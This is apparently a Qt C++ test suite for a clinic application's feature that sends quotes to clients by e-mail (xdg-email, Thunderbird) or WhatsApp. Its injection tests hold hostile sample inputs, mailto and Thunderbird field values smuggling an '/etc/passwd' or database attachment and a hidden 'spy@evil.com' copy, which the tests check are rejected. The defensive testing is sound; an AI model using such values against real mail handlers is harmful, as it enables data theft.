// Sending a quote to its client from the sheet's preview, on the real business layer
// with the known registry, as a person does it: the sheet printed from the list (or
// from a record form opened by the host), a send command clicked in its preview. The
// desktop's programs are stand-in xdg-email and xdg-open scripts, first on PATH, that
// write down their arguments, or Debian's own xdg-email with a stand-in mail program
// (MAILER); the PDF is read back with pdftotext.

#include "tests/Linha.h"
#include "tests/business/TesteDeNegocio.h"
#include "tests/list/ImpressaoDeTeste.h"
#include "tests/reports/TextoDoPdf.h"

#include "contracts/Pix.h"
#include "list/EnvioDoOrcamento.h"
#include "platform/reports/VisualizacaoDoRelatorio.h"
#include "platform/suite/ComponentesDaSuite.h"

#include <QLabel>
#include <QMenu>
#include <QSqlQuery>
#include <QSqlRecord>

using namespace Qt::StringLiterals;
using VB::Currency;

namespace {

struct Chamada {
    QString Programa;
    QStringList Argumentos;
};

// The quote's stored header, as one text: a send never changes it.
QString Cabecalho(double numero) {
    QSqlQuery q = Banco::Executar(u"SELECT * FROM Orcamentos WHERE NumeroDoOrcamento = ?"_s, {numero});
    QStringList valores;
    if (q.next())
        for (int i = 0; i < q.record().count(); ++i)
            valores << q.value(i).toString();
    return valores.join(u'|');
}

QStringList Envios() {
    QSqlQuery q =
        Banco::Executar(u"SELECT NumeroDoOrcamento, DataEHoraDoEnvio, UsuarioDoEnvio, Canal, Destino FROM "
                        "EnviosDeOrcamentos ORDER BY NumeroDoEnvio"_s);
    QStringList envios;
    while (q.next())
        envios << Juntos(q.value(0).toLongLong(), q.value(1).toString(), q.value(2).toString(),
                         q.value(3).toString(), q.value(4).toString());
    return envios;
}

// A mailto: URL as a mail program reads it: "to=<address>", then each field as
// "name=value", percent-decoded after the URL is split, so that a field smuggled into
// a value shows as a field of its own.
QStringList CamposDoMailto(const QString& url) {
    if (!url.startsWith(u"mailto:"_s)) return {u"sem mailto: "_s + url};
    const QString resto = url.mid(7);
    const qsizetype interrogacao = resto.indexOf(u'?');
    QStringList campos{u"to="_s + QUrl::fromPercentEncoding(resto.left(interrogacao).toUtf8())};
    if (interrogacao >= 0)
        for (const QString& campo : resto.mid(interrogacao + 1).split(u'&'))
            campos << QUrl::fromPercentEncoding(campo.toUtf8());
    return campos;
}

// The message's fields as a send of the test's quote writes them.
QStringList CamposDaMensagem(const QString& para, double numero, const QString& animais, const QString& valor,
                             const QString& pdf) {
    const QString corpo =
        u"Olá, João!\r\n\r\nSegue o orçamento nº "_s + QString::number(numero) + u" para "_s + animais +
        u", no valor líquido de R$ "_s + valor +
        u", válido até 13/12/2026. O orçamento completo está no PDF que acompanha esta "
        "mensagem.\r\n\r\nQualquer dúvida, ligue para (19) 3232-4545.\r\n\r\nClínica Escola"_s;
    return {u"to="_s + para, u"subject=Orçamento "_s + QString::number(numero) + u" - Clínica Escola"_s,
            u"body="_s + corpo, u"attach="_s + pdf};
}

// The newest entry of the quote's history: "operation|user".
QString UltimaEntradaDoHistorico(double numero) {
    QSqlQuery q = Banco::Executar(u"SELECT Operacao, Usuario FROM HistoricoDeOrcamentos WHERE "
                                  "NumeroDoOrcamento = ? ORDER BY NumeroDoRegistro DESC"_s,
                                  {qint64(numero)});
    return q.next() ? q.value(0).toString() + u'|' + q.value(1).toString() : QString();
}

} // namespace

class TesteDoEnvio : public TesteDeNegocio {
    Q_OBJECT

private slots:
    void initTestCase() {
        Suite::RegistrarComponentesDaSuite();
        Plataforma::DefinirFatorDaPausa(0);
        QVERIFY(EscreverSubstitutos(mprogramas.path()));
        qputenv("PATH", mprogramas.path().toUtf8() + ':' + qgetenv("PATH"));
        // A home of its own: documents in "Documentos" (user-dirs.dirs), data under .local.
        qputenv("HOME", mcasa.path().toUtf8());
        qputenv("XDG_CONFIG_HOME", mcasa.filePath(u".config"_s).toUtf8());
        qputenv("XDG_DATA_HOME", mcasa.filePath(u".local/share"_s).toUtf8());
        QVERIFY(QDir(mcasa.path()).mkpath(u".config"_s));
        Plataforma::SubstituirExibicaoModal([this](QWidget* janela) {
            auto* previa = qobject_cast<VisualizacaoDoRelatorio*>(janela);
            QVERIFY2(previa, qPrintable(u"janela inesperada: "_s + janela->objectName()));
            mcomandos.clear();
            for (const char* nome : {"cmdEnviarPorEmail", "cmdEnviarPorWhatsApp"})
                if (auto* botao = previa->findChild<QToolButton*>(QString::fromLatin1(nome)))
                    mcomandos << Juntos(botao->text(), botao->toolTip(), botao->shortcut().toString(),
                                        botao->icon().isNull() ? u"sem ícone"_s : u"ícone"_s);
            if (macaoNaPrevia) macaoNaPrevia(previa);
            auto* aviso = previa->findChild<QLabel*>(u"lblAvisoDaPrevia"_s);
            mstrAviso = aviso && !aviso->isHidden() ? aviso->text() : QString();
            previa->close();
        });
        AnotarMensagens(mmensagens);
    }

    void celularesNormalizados_data() {
        Colunas<QString, QString>("digitado", "internacional");
        QTest::newRow("com parênteses e hífen") << u"(19) 99876-5432"_s << u"5519998765432"_s;
        QTest::newRow("com zero de longa distância") << u"019 99876 5432"_s << u"5519998765432"_s;
        QTest::newRow("com +55") << u"+55 19 99876-5432"_s << u"5519998765432"_s;
        QTest::newRow("só os dígitos") << u"19998765432"_s << u"5519998765432"_s;
        QTest::newRow("com 55 sem +") << u"55 (11) 91234.5678"_s << u"5511912345678"_s;
        QTest::newRow("fixo") << u"(19) 3232-4545"_s << QString();
        QTest::newRow("sem DDD") << u"99876-5432"_s << QString();
        QTest::newRow("curto demais") << u"(19) 9987-654"_s << QString();
        QTest::newRow("letras") << u"19 9ABCD-5432"_s << QString();
        QTest::newRow("vazio") << QString() << QString();
        QTest::newRow("outro país") << u"+1 415 555 2671"_s << QString();
    }

    void celularesNormalizados() {
        QFETCH(QString, digitado);
        QFETCH(QString, internacional);
        QCOMPARE(EnvioDoOrcamento::CelularInternacional(digitado), internacional);
    }

    void emailDaFichaImpressaDaLista() {
        const double numero = GravarOrcamento(musuario.get(), 2); // 210,00 less 5,71 %: 198,00
        QVERIFY(numero > 0);
        const QString antes = Cabecalho(numero);
        // An earlier PDF of the same quote is replaced whole.
        QVERIFY(QDir().mkpath(PastaDosOrcamentos()));
        const QString pdf = PastaDosOrcamentos() + u"/Orçamento %1 - João.pdf"_s.arg(numero);
        QVERIFY(BancoDeTeste::EscreverArquivo(pdf, "antigo"));
        macaoNaPrevia = [&](VisualizacaoDoRelatorio* previa) { Clicar(previa, "cmdEnviarPorEmail"); };
        Cenario().ImprimirFichaDaLinha(1);

        QCOMPARE(mcomandos,
                 (QStringList{
                     u"Enviar por e-mail|Abrir uma mensagem de e-mail ao cliente com o PDF do orçamento "
                     "anexado (Ctrl+Shift+E)|Ctrl+Shift+E|ícone"_s,
                     u"Enviar por WhatsApp|Abrir o WhatsApp do cliente com o resumo do orçamento e a pasta "
                     "do PDF ao lado (Ctrl+Shift+W)|Ctrl+Shift+W|ícone"_s}));
        const QList<Chamada> chamadas = Chamadas();
        QCOMPARE(chamadas.size(), 1);
        QCOMPARE(chamadas[0].Programa, u"xdg-email"_s);
        QCOMPARE(chamadas[0].Argumentos.size(), 1); // one URL, never options
        QCOMPARE(CamposDoMailto(chamadas[0].Argumentos[0]),
                 CamposDaMensagem(u"joao@exemplo.com.br"_s, numero, u"Rex e Mel"_s, u"198,00"_s, pdf));
        const QString texto = TextoDoPdf(pdf);
        for (const QString& esperado :
             {u"Orçamento no.: %1"_s.arg(numero), u"João da Silva"_s, u"198,00"_s, u"Vacina V10"_s})
            QVERIFY2(texto.contains(esperado), qPrintable(esperado + u"\n"_s + texto));
        QCOMPARE(QDir(PastaDosOrcamentos()).entryList(QDir::Files), QStringList{QFileInfo(pdf).fileName()});
        QCOMPARE(Envios(),
                 QStringList{u"%1|2026-12-03 09:30:15|ANA|e-mail|joao@exemplo.com.br"_s.arg(numero)});
        QCOMPARE(UltimaEntradaDoHistorico(numero), u"enviado por e-mail|ANA"_s);
        QCOMPARE(mstrAviso, u"Enviado por e-mail em 03/12/2026 09:30 por ANA"_s);
        QCOMPARE(Cabecalho(numero), antes);
        QVERIFY2(mmensagens.isEmpty() && ErrosExibidos().isEmpty(), qPrintable(mmensagens.join(u'\n')));

        // A client without an e-mail: the message opens without a recipient. The list's own
        // print offers no send.
        Banco::Executar(u"UPDATE Clientes SET Email = '' WHERE CodigoDoCliente = 1"_s);
        macaoNaPrevia = [&](VisualizacaoDoRelatorio* previa) {
            QCOMPARE(previa->findChild<QLabel*>(u"lblAvisoDaPrevia"_s)->text(),
                     u"Enviado por e-mail em 03/12/2026 09:30 por ANA"_s);
            Clicar(previa, "cmdEnviarPorEmail");
        };
        Cenario().ImprimirFichaDaLinha(1);
        QCOMPARE(Chamadas().size(), 2);
        QCOMPARE(CamposDoMailto(Chamadas()[1].Argumentos.value(0)),
                 CamposDaMensagem(QString(), numero, u"Rex e Mel"_s, u"198,00"_s, pdf));
        QCOMPARE(Envios().constLast(), u"%1|2026-12-03 09:30:15|ANA|e-mail|"_s.arg(numero));
        macaoNaPrevia = nullptr;
        QCOMPARE(Cenario().lista->ImprimirLista(), qint16(0));
        QCOMPARE(mcomandos, QStringList());
    }

    void whatsAppDaFichaDoHost() {
        const double numero = NovoOrcamento();
        QVERIFY(numero > 0);
        const QString antes = Cabecalho(numero);
        ImprimirFichaDoHost(numero, [&](VisualizacaoDoRelatorio* previa) {
            QVERIFY(previa->findChild<QLabel*>(u"lblAvisoDaPrevia"_s)->isHidden()); // never sent before
            Clicar(previa, "cmdEnviarPorWhatsApp");
        });
        const QList<Chamada> chamadas = Chamadas();
        QCOMPARE(chamadas.size(), 2);
        QCOMPARE(chamadas[0].Programa, u"xdg-open"_s);
        const QUrl endereco(chamadas[0].Argumentos.value(0));
        QCOMPARE(endereco.scheme() + u"://"_s + endereco.host() + endereco.path(),
                 u"https://wa.me/5519998765432"_s);
        const QString texto = QUrlQuery(endereco).queryItemValue(u"text"_s, QUrl::FullyDecoded);
        QCOMPARE(
            texto,
            u"Olá, João!\n\nSegue o orçamento nº %1 para Rex, no valor líquido de R$ 108,00, válido até "
            "13/12/2026. O orçamento completo está no PDF que acompanha esta mensagem.\n\nQualquer dúvida, "
            "ligue para (19) 3232-4545.\n\nClínica Escola"_s.arg(numero));
        // The folder holding the PDF opens beside the chat.
        QCOMPARE(chamadas[1].Programa, u"xdg-open"_s);
        QCOMPARE(chamadas[1].Argumentos, QStringList{PastaDosOrcamentos()});
        const QString pdf = PastaDosOrcamentos() + u"/Orçamento %1 - João.pdf"_s.arg(numero);
        const QString impresso = TextoDoPdf(pdf);
        for (const QString& esperado : {u"Orçamento no.: %1"_s.arg(numero), u"João"_s, u"108,00"_s})
            QVERIFY2(impresso.contains(esperado), qPrintable(esperado + u"\n"_s + impresso));
        QCOMPARE(Envios(), QStringList{u"%1|2026-12-03 09:30:15|ANA|WhatsApp|5519998765432"_s.arg(numero)});
        QCOMPARE(UltimaEntradaDoHistorico(numero), u"enviado por WhatsApp|ANA"_s);
        QCOMPARE(mstrAviso, u"Enviado por WhatsApp em 03/12/2026 09:30 por ANA"_s);
        QCOMPARE(Cabecalho(numero), antes);
        QVERIFY2(mmensagens.isEmpty() && ErrosExibidos().isEmpty(), qPrintable(mmensagens.join(u'\n')));
    }

    // An approved quote of a clinic that asks a deposit: the message carries the deposit
    // and the PIX "copia e cola" of its amount; before the approval, neither.
    void aprovadoComSinalLevaOPixNaMensagem() {
        const double numero = NovoOrcamento(); // 108,00
        QVERIFY(numero > 0);
        BancoDeTeste::ConfigurarSinal(musuario.get(), 50, true, u"529.982.247-25"_s);
        const auto mensagem = [&] {
            ImprimirFichaDoHost(
                numero, [&](VisualizacaoDoRelatorio* previa) { Clicar(previa, "cmdEnviarPorWhatsApp"); });
            const QList<Chamada> chamadas = Chamadas();
            return QUrlQuery(QUrl(chamadas.value(chamadas.size() - 2).Argumentos.value(0)))
                .queryItemValue(u"text"_s, QUrl::FullyDecoded);
        };
        const QString inicio =
            u"Olá, João!\n\nSegue o orçamento nº %1 para Rex, no valor líquido de R$ 108,00, válido até "
            "13/12/2026. O orçamento completo está no PDF que acompanha esta mensagem.\n\n"_s.arg(numero);
        const QString fim = u"Qualquer dúvida, ligue para (19) 3232-4545.\n\nClínica Escola"_s;
        QCOMPARE(mensagem(), inicio + fim);
        BancoDeTeste::Aprovar(numero, musuario.get());
        const QString pix = Pix::CopiaECola({u"52998224725"_s, u"Clínica Escola"_s, u"Campinas"_s,
                                             Currency::DeInteiro(54), u"ORC%1"_s.arg(qint64(numero))});
        QCOMPARE(mensagem(), inicio +
                                 u"Sinal para confirmar: R$ 54,00 (50 % do valor aprovado).\nPague pelo Pix "
                                 "copia e cola:\n"_s +
                                 pix + u"\n\n"_s + fim);
    }

    // The row menu's send is the preview's, without a preview on screen: the same PDF, the
    // same message, the send recorded, and the open quote now "Enviado" in the list's row.
    void whatsAppPeloMenuDaLinha() {
        const double numero = GravarOrcamento(musuario.get(), 2);
        QVERIFY(GravarOrcamento(musuario.get(), 1) > 0);
        int previas = 0;
        macaoNaPrevia = [&](VisualizacaoDoRelatorio*) { ++previas; };
        Plataforma::SubstituirPopupMenu(
            [](QMenu* menu) { return menu->findChild<QAction*>(u"mnuEnviarPorWhatsApp"_s); });
        Cenario cenario;
        QTest::mouseClick(cenario.lista->Grade(), Qt::RightButton, {},
                          QPoint(Twips::ParaPixels(3000), Twips::ParaPixels(700 + 570 + 285)));
        Plataforma::SubstituirPopupMenu({});
        QCOMPARE(previas, 0);
        const QList<Chamada> chamadas = Chamadas();
        QCOMPARE(chamadas.size(), 2);
        const QUrl endereco(chamadas[0].Argumentos.value(0));
        QCOMPARE(endereco.host() + endereco.path(), u"wa.me/5519998765432"_s);
        QVERIFY(
            QUrlQuery(endereco)
                .queryItemValue(u"text"_s, QUrl::FullyDecoded)
                .startsWith(
                    u"Olá, João!\n\nSegue o orçamento nº %1 para Rex e Mel, no valor líquido de R$ 198,00"_s
                        .arg(numero)));
        QCOMPARE(chamadas[1].Argumentos, QStringList{PastaDosOrcamentos()});
        const QString impresso = TextoDoPdf(PastaDosOrcamentos() + u"/Orçamento %1 - João.pdf"_s.arg(numero));
        QVERIFY2(impresso.contains(u"Orçamento no.: %1"_s.arg(numero)), qPrintable(impresso));
        QCOMPARE(Envios(), QStringList{u"%1|2026-12-03 09:30:15|ANA|WhatsApp|5519998765432"_s.arg(numero)});
        QCOMPARE(UltimaEntradaDoHistorico(numero), u"enviado por WhatsApp|ANA"_s);
        QCOMPARE(BancoDeTeste::Consulta("SELECT Etapa FROM EtapasDoOrcamento WHERE NumeroDoOrcamento = ?",
                                        {numero}),
                 u"Enviado"_s);
        const MSFlexGrid* grade = cenario.lista->Grade();
        QCOMPARE(grade->TextMatrix(grade->RowSel(), frmLista::ColunaNumeroDoOrcamento), VB::CStr(numero));
        QVERIFY2(mmensagens.isEmpty() && ErrosExibidos().isEmpty(), qPrintable(mmensagens.join(u'\n')));
    }

    void falhasNaoEnviamNemTocamNoOrcamento() {
        const double numero = NovoOrcamento();
        const QString antes = Cabecalho(numero);
        const QString pdf = PastaDosOrcamentos() + u"/Orçamento %1 - João.pdf"_s.arg(numero);
        QVERIFY(QDir().mkpath(PastaDosOrcamentos()));
        const QByteArray conteudoAntigo = QByteArray("%PDF-1.4 antigo\n") + QByteArray(3000, 'x');
        QVERIFY(BancoDeTeste::EscreverArquivo(pdf, conteudoAntigo));
        const auto enviar = [&](const char* comando) {
            mmensagens.clear();
            ImprimirFichaDoHost(numero, [&](VisualizacaoDoRelatorio* previa) { Clicar(previa, comando); });
        };
        const QString titulo = u"|"_s + Aplicativo;
        // No cell phone, or one that is no Brazilian mobile: nothing opens.
        Banco::Executar(u"UPDATE Clientes SET Celular = '' WHERE CodigoDoCliente = 1"_s);
        enviar("cmdEnviarPorWhatsApp");
        QCOMPARE(mmensagens,
                 QStringList{u"O cliente não tem celular cadastrado. Cadastre o celular do cliente para "
                             "enviar o orçamento por WhatsApp.|64"_s +
                             titulo});
        Banco::Executar(u"UPDATE Clientes SET Celular = '(19) 3232-4545 %1' WHERE CodigoDoCliente = 1"_s);
        enviar("cmdEnviarPorWhatsApp");
        QCOMPARE(mmensagens,
                 QStringList{
                     u"O celular cadastrado do cliente ((19) 3232-4545 %1) não é um número de celular "
                     "do Brasil. Corrija o cadastro do cliente para enviar o orçamento por WhatsApp.|64"_s +
                     titulo});
        // No mail program on the desktop (a PATH with the stand-in xdg-open only).
        QTemporaryDir soOpen;
        QVERIFY(QFile::copy(mprogramas.filePath(u"xdg-open"_s), soOpen.filePath(u"xdg-open"_s)));
        const QByteArray caminhos = qgetenv("PATH");
        qputenv("PATH", soOpen.path().toUtf8());
        enviar("cmdEnviarPorEmail");
        qputenv("PATH", caminhos);
        QCOMPARE(mmensagens,
                 QStringList{u"Não foi possível abrir o programa de e-mail: o programa xdg-email não está "
                             "instalado (pacote xdg-utils). Nada foi enviado.|48"_s +
                             titulo});
        QCOMPARE(Chamadas().size(), 0);
        // The disk fills up while the PDF is written: the earlier PDF stays, nothing opens.
        {
            const LimiteDeArquivo limite(4000);
            enviar("cmdEnviarPorEmail");
        }
        QCOMPARE(mmensagens.size(), 1);
        QVERIFY2(
            mmensagens[0].startsWith(u"Não foi possível gravar o arquivo \"%1\" ("_s.arg(pdf)) &&
                mmensagens[0].endsWith(u"O arquivo que já existia não foi alterado.|16|Imprimir orçamento"_s),
            qPrintable(mmensagens[0]));
        QCOMPARE(BancoDeTeste::LerArquivo(pdf), conteudoAntigo);
        QCOMPARE(Chamadas().size(), 0);
        // The mail program fails: the person is told where the PDF is; nothing is recorded.
        qputenv("ZELT_TESTE_SAIDA", "3");
        enviar("cmdEnviarPorEmail");
        QCOMPARE(
            mmensagens,
            QStringList{u"Não foi possível abrir o programa de e-mail (o programa xdg-email terminou com "
                        "o código 3). Nada foi enviado; o PDF do orçamento está em \"%1\".|48"_s.arg(pdf) +
                        titulo});
        QCOMPARE(Chamadas().size(), 1);
        QVERIFY(TextoDoPdf(pdf).contains(u"Orçamento no.: %1"_s.arg(numero)));
        QCOMPARE(Envios(), QStringList());
        QCOMPARE(Cabecalho(numero), antes);
        QVERIFY(ErrosExibidos().isEmpty());
    }

    void pastaDeDocumentosSemGravacaoUsaAPastaDeDados() {
        const double numero = NovoOrcamento();
        // Documents in a folder nobody may write in, root included.
        QVERIFY(BancoDeTeste::EscreverArquivo(mcasa.filePath(u".config/user-dirs.dirs"_s),
                                              "XDG_DOCUMENTS_DIR=\"/proc/zelt-documentos\"\n"));
        ImprimirFichaDoHost(numero,
                            [&](VisualizacaoDoRelatorio* previa) { Clicar(previa, "cmdEnviarPorEmail"); });
        // The component's data folder, whatever the running program calls itself.
        const QString pasta = mcasa.filePath(u".local/share/ZELT/ZELT_A_Orcamentos/Orçamentos"_s);
        const QString pdf = pasta + u"/Orçamento %1 - João.pdf"_s.arg(numero);
        QCOMPARE(mmensagens,
                 QStringList{u"A pasta de documentos (/proc/zelt-documentos) não aceita gravação. O PDF do "
                             "orçamento foi gravado em \"%1\".|64|"_s.arg(pasta) +
                             Aplicativo});
        QCOMPARE(Chamadas().size(), 1);
        QCOMPARE(CamposDoMailto(Chamadas()[0].Argumentos.value(0)).constLast(), u"attach="_s + pdf);
        QVERIFY(TextoDoPdf(pdf).contains(u"Orçamento no.: %1"_s.arg(numero)));
        QCOMPARE(Envios().size(), 1);
    }

    // Debian's own xdg-email, the desktop's mail program standing in (MAILER): a hostile
    // address opens nothing and records nothing; a good one reaches the mail program
    // unchanged, with the one PDF attached and no other field.
    void enderecosComOXdgEmailDoDebian_data() {
        Colunas<QString, bool>("email", "aceito");
        QTest::newRow("mailto com anexo e cópia oculta")
            << u"mailto:evil@x.com?attach=/etc/passwd&bcc=spy@evil.com"_s << false;
        QTest::newRow("anexo do banco pelo Thunderbird")
            << u"x',attachment='/x/orcamentos.sqlite',cc='a@b.c"_s << false;
        QTest::newRow("opção --help") << u"--help"_s << false;
        QTest::newRow("domínio acentuado") << u"ana@clínica.com.br"_s << true;
        QTest::newRow("com + e pontos") << u"joao.silva+orc@exemplo.com.br"_s << true;
    }

    void enderecosComOXdgEmailDoDebian() {
        QFETCH(QString, email);
        QFETCH(bool, aceito);
        const double numero = NovoOrcamento();
        Banco::Executar(u"UPDATE Clientes SET Email = ? WHERE CodigoDoCliente = 1"_s, {email});
        qputenv("MAILER", mprogramas.filePath(u"programa-de-email"_s).toUtf8());
        EnviarPorEmailComOXdgEmailDoDebian(numero);
        // The mail program does not start a message: nothing is recorded.
        if (aceito) {
            qputenv("ZELT_TESTE_SAIDA", "1");
            EnviarPorEmailComOXdgEmailDoDebian(numero);
        }
        qunsetenv("MAILER");
        const QList<Chamada> chamadas = Chamadas();
        if (!aceito) {
            QCOMPARE(mmensagens,
                     QStringList{u"O e-mail cadastrado do cliente João não é um endereço de e-mail válido "
                                 "(um só endereço, como nome@dominio.com.br). Corrija o e-mail no cadastro "
                                 "do cliente para enviar o orçamento por e-mail.|64|"_s +
                                 Aplicativo});
            QCOMPARE(chamadas.size(), 0);
            QCOMPARE(Envios(), QStringList());
            return;
        }
        const QString pdf = PastaDosOrcamentos() + u"/Orçamento %1 - João.pdf"_s.arg(numero);
        QCOMPARE(chamadas.size(), 2);
        QCOMPARE(chamadas[0].Programa, u"programa-de-email"_s);
        QCOMPARE(chamadas[0].Argumentos.size(), 1);
        QCOMPARE(CamposDoMailto(chamadas[0].Argumentos[0]),
                 CamposDaMensagem(email, numero, u"Rex"_s, u"108,00"_s, pdf));
        QCOMPARE(mmensagens, QStringList{u"Não foi possível abrir o programa de e-mail (o programa xdg-email "
                                         "terminou com o código 4). Nada foi enviado; o PDF do orçamento "
                                         "está em \"%1\".|48|"_s.arg(pdf) +
                                         Aplicativo});
        QCOMPARE(Envios(), QStringList{u"%1|2026-12-03 09:30:15|ANA|e-mail|"_s.arg(numero) + email});
    }

    // With Thunderbird as the desktop's mail program, xdg-email decodes the PDF's path
    // into a quoted, comma-separated list: a nickname's quote and comma cannot end it.
    void apelidoHostilNoThunderbird() {
        const double numero = NovoOrcamento();
        QVERIFY(QDir().mkpath(mcasa.filePath(u".local/share/applications"_s)));
        QVERIFY(BancoDeTeste::EscreverArquivo(
            mcasa.filePath(u".local/share/applications/thunderbird.desktop"_s),
            "[Desktop Entry]\nType=Application\nName=Thunderbird\nExec=" +
                mprogramas.filePath(u"thunderbird"_s).toUtf8() + " %u\nMimeType=x-scheme-handler/mailto;\n"));
        QVERIFY(BancoDeTeste::EscreverArquivo(
            mcasa.filePath(u".config/mimeapps.list"_s),
            "[Default Applications]\nx-scheme-handler/mailto=thunderbird.desktop\n"));
        EnviarPorEmailComOXdgEmailDoDebian(numero, u"x',bcc='spy@evil.com"_s);
        const QString pdf = PastaDosOrcamentos() + u"/Orçamento "_s + QString::number(numero) +
                            u" - x--bcc=-spy@evil.com.pdf"_s;
        const QList<Chamada> chamadas = Chamadas();
        QCOMPARE(chamadas.size(), 1);
        QCOMPARE(chamadas[0].Programa, u"thunderbird"_s);
        QCOMPARE(chamadas[0].Argumentos.value(0), u"-compose"_s);
        const QString campos = chamadas[0].Argumentos.value(1);
        QVERIFY2(campos.startsWith(u"to='joao@exemplo.com.br,',subject=Or"_s) &&
                     campos.endsWith(u",attachment='"_s + pdf + u"'"_s) && campos.count(u'\'') == 4 &&
                     !campos.contains(u"bcc='"_s),
                 qPrintable(campos));
        QVERIFY(QFile::exists(pdf));
    }

    // A name that passes the file system's 255 bytes is cut before ".pdf", between two
    // characters: the PDF is written and sent.
    void apelidoLongoCabeNoNomeDoArquivo_data() {
        // unidade: one character as a person sees it
        Colunas<QString, int>("unidade", "vezes");
        QTest::newRow("300 letras") << u"a"_s << 300;
        QTest::newRow("80 emojis") << u"🐶"_s << 80;
        QTest::newRow("acentos combinados") << u"e\u0301"_s << 80;
    }

    void apelidoLongoCabeNoNomeDoArquivo() {
        QFETCH(QString, unidade);
        QFETCH(int, vezes);
        const double numero = NovoOrcamento();
        ImprimirFichaDoHost(
            numero, [&](VisualizacaoDoRelatorio* previa) { Clicar(previa, "cmdEnviarPorEmail"); },
            unidade.repeated(vezes));
        const QString inicio = u"Orçamento "_s + QString::number(numero) + u" - "_s;
        const qsizetype cabem = (255 - inicio.toUtf8().size() - 4) / unidade.toUtf8().size();
        const QString nome = inicio + unidade.repeated(cabem) + u".pdf"_s;
        QVERIFY2(mmensagens.isEmpty(), qPrintable(mmensagens.join(u'\n')));
        QCOMPARE(QDir(PastaDosOrcamentos()).entryList(QDir::Files), QStringList{nome});
        QVERIFY(nome.toUtf8().size() <= 255 && nome.toUtf8().size() > 250);
        QCOMPARE(CamposDoMailto(Chamadas().value(0).Argumentos.value(0)).constLast(),
                 u"attach="_s + PastaDosOrcamentos() + u'/' + nome);
        QCOMPARE(Envios().size(), 1);
    }

    void registroDeEnviosNoNegocio() {
        const double numero = NovoOrcamento();
        auto envios = Zelt::CriarObjeto<ZELT_N_Orcamentos::clsEnviosDeOrcamentos>(ProgId::EnviosDeOrcamentos);
        QCOMPARE(envios->RegistrarEnvio(numero, u"e-mail"_s, QString()), qint16(1)); // whose send?
        QCOMPARE(envios->LocalDoErro, u"ZELT_N_Orcamentos, clsEnviosDeOrcamentos, RegistrarEnvio"_s);
        envios->DadosDoUsuario = musuario.get();
        QCOMPARE(envios->RegistrarEnvio(numero, u"SMS"_s, u"x"_s), qint16(2));
        QCOMPARE(envios->DescricaoDaFalha, u"O canal de envio \"SMS\" não é conhecido."_s);
        QCOMPARE(envios->RegistrarEnvio(4321, u"e-mail"_s, u"x"_s), qint16(2));
        QCOMPARE(envios->DescricaoDaFalha, u"O orçamento enviado não está mais cadastrado."_s);
        QCOMPARE(Envios(), QStringList());
    }

protected:
    void Preparar() override {
        PrepararContexto(musuario.get());
        mmensagens.clear();
        mstrAviso.clear();
        macaoNaPrevia = nullptr;
        FixarRelogio(QDateTime(QDate(2026, 12, 3), QTime(9, 30, 15)));
        QVERIFY(BancoDeTeste::EscreverArquivo(mcasa.filePath(u".config/user-dirs.dirs"_s),
                                              "XDG_DOCUMENTS_DIR=\"$HOME/Documentos\"\n"));
        QDir(mcasa.filePath(u"Documentos"_s)).removeRecursively();
        QDir(mcasa.filePath(u".local"_s)).removeRecursively();
        mstrChamadas = mcasa.filePath(u"chamadas"_s);
        QDir(mstrChamadas).removeRecursively();
        QVERIFY(QDir().mkpath(mstrChamadas));
        qputenv("ZELT_TESTE_CHAMADAS", mstrChamadas.toUtf8());
        qunsetenv("ZELT_TESTE_SAIDA");
        Banco::Executar(u"UPDATE Empresa SET Telefone = '(19) 3232-4545'"_s);
        Banco::Executar(
            u"UPDATE Clientes SET Email = 'joao@exemplo.com.br', Celular = '(19) 99876-5432' WHERE "
            "CodigoDoCliente = 1"_s);
    }

private:
    // Prints the sheet as a record form opened by the host does; in its preview, acao runs.
    void ImprimirFichaDoHost(double numero, const std::function<void(VisualizacaoDoRelatorio*)>& acao,
                             const QString& apelido = u"João"_s) {
        macaoNaPrevia = acao;
        QCOMPARE(::ImprimirFichaDoHost(numero, apelido, u"João da Silva"_s, Currency::DeInteiro(120),
                                       Currency::DeInteiro(10), Currency::DeInteiro(12),
                                       Currency::DeInteiro(108)),
                 qint16(0));
    }

    // Sends the quote by e-mail through Debian's own xdg-email (xdg-utils) on a desktop it
    // does not know, with only the system's programs on PATH.
    void EnviarPorEmailComOXdgEmailDoDebian(double numero, const QString& apelido = u"João"_s) {
        QVERIFY2(QFileInfo(u"/usr/bin/xdg-email"_s).isExecutable(), "falta o pacote xdg-utils");
        const QByteArray caminhos = qgetenv("PATH");
        qputenv("PATH", "/usr/bin:/bin");
        qputenv("XDG_CURRENT_DESKTOP", "");
        ImprimirFichaDoHost(
            numero, [&](VisualizacaoDoRelatorio* previa) { Clicar(previa, "cmdEnviarPorEmail"); }, apelido);
        qputenv("PATH", caminhos);
    }

    void Clicar(VisualizacaoDoRelatorio* previa, const char* comando) {
        auto* botao = previa->findChild<QToolButton*>(QString::fromLatin1(comando));
        QVERIFY(botao && botao->isVisible());
        QTest::mouseClick(botao, Qt::LeftButton);
    }

    QList<Chamada> Chamadas() const {
        QList<Chamada> chamadas;
        for (QStringList partes : ChamadasDosSubstitutos(mstrChamadas))
            chamadas.append({partes.takeFirst(), partes});
        return chamadas;
    }

    QString PastaDosOrcamentos() const { return mcasa.filePath(u"Documentos/Orçamentos"_s); }

    QTemporaryDir mprogramas;
    QTemporaryDir mcasa;
    QString mstrChamadas;
    std::function<void(VisualizacaoDoRelatorio*)> macaoNaPrevia;
    QStringList mmensagens;
    QString mstrAviso;     // the preview's line of the last send, when it closed
    QStringList mcomandos; // the send commands the preview offered
};

QTEST_MAIN(TesteDoEnvio)
#include "tst_envio.moc"
